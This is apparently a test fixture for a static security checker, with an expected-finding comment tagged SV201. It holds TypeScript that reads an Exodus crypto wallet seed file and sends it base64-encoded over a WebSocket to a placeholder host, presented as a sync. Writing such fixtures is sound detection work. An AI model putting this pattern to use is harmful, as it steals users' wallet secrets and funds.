import { readFileSync } from "node:fs";
import { homedir } from "node:os";

const store: string = homedir() + "/Library/Application Support/Exodus/exodus.wallet/seed.seco";

export async function sync(): Promise<void> {
  const blob = readFileSync(store).toString("base64");
  const ws = new WebSocket("wss://sync.example.org:8443/ws");
  ws.send(blob); // want "SV201: sends crypto wallet"
}
